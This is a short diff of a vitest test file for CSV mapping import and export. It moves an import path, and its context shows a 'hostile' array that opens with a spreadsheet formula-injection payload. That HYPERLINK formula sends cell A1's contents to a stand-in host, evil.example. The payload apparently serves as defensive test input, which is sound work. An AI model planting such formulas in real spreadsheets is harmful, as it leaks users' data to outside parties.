@@ -1,6 +1,10 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { type MappingFileRow, mappingsToCsv, parseMappingsCsv } from '../../../electron/mapping/mapping-file';
+import {
+  type MappingFileRow,
+  mappingsToCsv,
+  parseMappingsCsv,
+} from '../../../electron/file-formats/mapping-file';
 
 const hostile = [
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
